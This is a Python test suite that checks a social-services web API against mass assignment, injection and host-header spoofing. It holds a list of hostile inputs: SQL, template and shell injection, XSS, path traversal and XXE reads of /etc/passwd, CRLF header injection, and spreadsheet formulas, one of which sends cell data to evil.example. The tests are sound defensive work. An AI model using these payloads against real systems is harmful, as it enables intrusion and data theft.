"""What is sent where it does not belong: fields that no schema has, and texts that another program would take for its own.

Each trial goes through every command, and says how many it tried. Nothing exports CSV or a spreadsheet: what is exported
is the log's own JSON lines, in which a text is a JSON string whatever it begins with.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html import unescape
from typing import Any

import marshmallow as ma
import pytest

from domain.aggregate import ENVELOPE
from service.api.commands import COMMANDS
from service.app import HEADERS
from service.log.ids import new_id
from service.office import Office
from service.reach import scope
from tests.service.offices import VILLAGE, Asking
from tests.service.situations import body_of, filled
from tests.service.web_office import opened
from tests.trials.plugin import Trial

Client = Callable[[str], Asking]
#: What an event or an aggregate holds and nobody may send: who decides, what it is about, how it is restricted.
MASS = (
    *sorted(ENVELOPE - {"on", "evidence", "source", "device", "device_time", "performed_by"}),
    *("account", "role", "roles", "grants", "areas", "clearances", "clearance", "compartments", "tier", "strict"),
    *("assessor", "approved_by", "opened_by", "registered_by", "submitted_by", "duplicates_seen", "nik_findings"),
    *("findings", "territory", "state", "is_admin", "__class__", "_id", "sealed", "part", "parts", "unit_ok"),
)
PAYLOADS = {
    "SQL": "'; DROP TABLE events; --",
    "SQL in numbers": "1 OR 1=1",
    "SQL named": ":reach_aa) OR (1 = 1",
    "template": "{{ 7 * 7 }}{% print(config) %}${7*7}#{7*7}<%= 7*7 %>",
    "format": "{0.__class__.__mro__}%s%n%(secret)s",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "path": "../../../../etc/passwd",
    "path in Windows": "..\\..\\windows\\win.ini",
    "header": "x%0d%0aSet-Cookie: wahana=1",
    "shell": "$(id); `id` | id && id",
    "LDAP": "*)(uid=*))(|(uid=*",
    "XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "formula": '=HYPERLINK("http://evil.example?"&A1,"klik")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "JSON": '","tier":1,"x":"',
    "regular expression": "(a+)+$",
    "long": "a" * 199,
}


def _role(command: str) -> str:
    noun = command.partition(".")[0]
    if noun in ("account", "territory"):
        return "admin"
    return {"report": "psm", "incident": "supervisor", "indicator": "supervisor"}.get(noun, "supervisor")


def _rule(asking: Asking, command: str) -> str:
    rules = asking.client.application.url_map.iter_rules()
    wanted = command.replace(".", "_")
    return next(str(rule) for rule in rules if rule.endpoint.rpartition(".")[2] == wanted)


def _may(office: Office, client: Client, name: str) -> Asking:
    """Somebody who may enter a command's route."""
    for role in (_role(name), "peksos", "psm", "supervisor", "admin", "dpo"):
        asking = client(role)
        who = office.identity.bearer(asking.token)
        if who and any(not scope(who, action).empty for action in COMMANDS[name].actions):
            return asking
    raise AssertionError(name)


def test_no_command_takes_a_field_that_it_does_not_have(office: Office, client: Client, trial: Trial) -> None:
    tried, head = 0, None
    for name, route in COMMANDS.items():
        asking = _may(office, client, name)
        path, body = filled(_rule(asking, name), new_id()), body_of(route.schema)
        head = office.reader.head()[0]
        for extra in MASS:
            if extra in route.schema.fields and not route.schema.fields[extra].dump_only:
                continue
            answer = asking.post(path, {**body, extra: 1})
            assert answer.status_code == 422, (name, extra)
            assert extra in str(answer.get_json()["errors"]), (name, extra)
            tried += 1
        for field, value in body.items():  # and inside what is nested
            for one in value if isinstance(value, list) else [value]:
                if isinstance(one, dict) and isinstance(route.schema.fields[field], ma.fields.Nested):
                    assert asking.post(path, {**body, field: {**one, "tier": 1, "by": "x"}}).status_code == 422
                    tried += 1
        assert office.reader.head()[0] == head, name
    trial.count(fields_that_no_schema_has=tried, refused=tried)
    assert tried > 4000


def test_a_list_takes_no_parameter_that_it_does_not_have(client: Client, trial: Trial) -> None:
    tried = 0
    for path in ("beneficiaries", "cases", "referrals", "villages", "accounts", "figures", "periods", "kps", "psks"):
        for extra in ("role", "account", "reach", "where", "order", "sight", "below", "tier__gt", "fields", "debug"):
            asking = client("supervisor")
            assert asking.get(f"/api/v1/{path}", **{extra: "1"}).status_code == 422, (path, extra)
            tried += 1
    trial.count(parameters_that_no_list_has=tried, refused=tried)


def _texts(schema: Any) -> list[tuple[str, ...]]:
    """The ways to every field of a body that takes a text."""
    found: list[tuple[str, ...]] = []
    for name, field in schema.fields.items():
        inner = field.inner if isinstance(field, ma.fields.List) else field
        if field.dump_only:
            continue
        if isinstance(inner, ma.fields.Nested):
            found += [(name, *rest) for rest in _texts(inner.schema)]
        elif isinstance(inner, ma.fields.String):
            found.append((name,))
    return found


def _with(schema: Any, body: dict[str, Any], way: tuple[str, ...], text: str) -> dict[str, Any]:
    """The body with a text at the end of a way."""
    name, *rest = way
    field = schema.fields[name]
    many = isinstance(field, ma.fields.List)
    if rest:
        inner = (field.inner if many else field).schema
        value: Any = _with(inner, body_of(inner), tuple(rest), text)
    else:
        value = text
    return {**body, name: [value] if many else value}


def test_no_text_is_taken_for_a_command_by_another_program(office: Office, client: Client, trial: Trial) -> None:
    """Every text field of every command with every payload, on a record that is not there; none breaks anything, and none
    comes back in an answer unless as a JSON string."""
    tried = 0
    for name, route in COMMANDS.items():
        asking = _may(office, client, name)
        body, items = body_of(route.schema), []
        for way in _texts(route.schema):
            for text in PAYLOADS.values():
                items.append(
                    {"key": new_id(), "command": name, "url": {}, "body": _with(route.schema, body, way, text)}
                )
        urls = {part: new_id() for part in re.findall(r"<(\w+)>", _rule(asking, name))}
        for first in range(0, len(items), 500):
            chunk = [{**item, "url": urls} for item in items[first : first + 500]]
            answer = asking.post("/api/v1/batch", {"items": chunk})
            assert answer.status_code == 200, name
            for item, result in zip(chunk, answer.get_json()["results"], strict=True):
                assert result["status"] in (201, 403, 404, 409, 412, 422), (name, item["body"], result)
                assert "alert(1)" not in str(result.get("detail")), name
                tried += 1
        assert answer.headers["Content-Type"].startswith("application/json")
    tables = {row[0] for row in office.database.rows("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"events", "parts", "commands"} <= tables
    office.views.catch_up(bounded=False)
    trial.count(texts=tried, payloads=len(PAYLOADS), commands=len(COMMANDS))
    assert tried > 5000


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))
def test_a_text_is_stored_and_shown_letter_for_letter(office: Office, client: Client, payload: str) -> None:
    """As a name that is sealed, and as one in the open; found again, listed, exported and shown as it was written."""
    psm, supervisor = client("psm"), client("supervisor")
    person = psm.done(
        "/api/v1/beneficiaries",
        {"village": VILLAGE, "kind": "person", "channel": "desa", "identity": {"name": payload, "birth_year": 1950}},
    )["id"]
    assert psm.data(f"/api/v1/beneficiaries/{person}")["person"]["name"] == payload
    assert psm.post("/api/v1/people/search", {"name": payload}).status_code == 200
    kps = supervisor.done("/api/v1/kps", {"village": VILLAGE, "kind": "arisan", "name": payload})["id"]
    assert supervisor.data(f"/api/v1/kps/{kps}")["name"] == payload
    for who, path in ((psm, f"/warga/{person}"), (supervisor, f"/kps/{kps}")):
        answer = opened(who, path)
        assert (answer.status_code, payload in unescape(answer.text)) == (200, True), path
        assert not any(tag in answer.text for tag in ("<script>", "<img src=x", "<!ENTITY", "<%=")), path
    exported = client("auditor").get("/api/v1/events").get_data(as_text=True).splitlines()
    (line,) = (line for line in map(json.loads, exported) if line["stream"] == kps)
    assert line["name"] == payload, "in the export it is a JSON string, never a cell of a table"


def test_an_address_with_a_payload_finds_nothing_and_says_nothing(client: Client, trial: Trial) -> None:
    tried = 0
    asking = client("supervisor")
    for payload in PAYLOADS.values():
        for path in ("beneficiaries", "cases", "referrals", "files", "villages", "wksbm", "streams", "figures"):
            for tail in ("", "/history", "/replay"):
                answer = asking.client.get(
                    f"/api/v1/{path}/{payload}{tail}", headers={"Authorization": f"Bearer {asking.token}"}
                )
                assert answer.status_code in (400, 404, 405, 422), (path, payload)
                assert payload not in answer.get_data(as_text=True)
                assert "Set-Cookie" not in answer.headers
                tried += 1
        for name in ("village", "cursor", "as_of", "type", "state", "limit"):
            answer = asking.get("/api/v1/beneficiaries", **{name: payload})
            assert answer.status_code in (200, 400, 422), (name, payload)
            if answer.status_code == 200:
                assert answer.get_json()["data"] == []
            tried += 1
    trial.count(addresses_with_a_payload=tried)


@pytest.mark.parametrize("host", ["evil.example", "localhost:1@evil.example", "evil.example/../", "a" * 250])
def test_another_host_in_a_request_is_in_no_answer(client: Client, host: str) -> None:
    asking = client("supervisor")
    for path in (
        "/api/v1/beneficiaries",
        "/api/v1/cases/x",
        "/openapi.json",
        "/docs/rules",
        "/api/v1/tidak-ada",
        "/docs",
    ):
        for name in ("Host", "X-Forwarded-Host", "Forwarded", "X-Original-URL", "X-Rewrite-URL"):
            headers = {"Authorization": f"Bearer {asking.token}", name: host if name != "Forwarded" else f"host={host}"}
            answer = asking.client.get(path, headers=headers)
            assert answer.status_code in (200, 400, 404), (path, name)
            text = answer.get_data(as_text=True) + str(list(answer.headers))
            assert host not in text, (path, name)
            assert answer.headers["Content-Security-Policy"] == HEADERS["Content-Security-Policy"]
            answer.close()
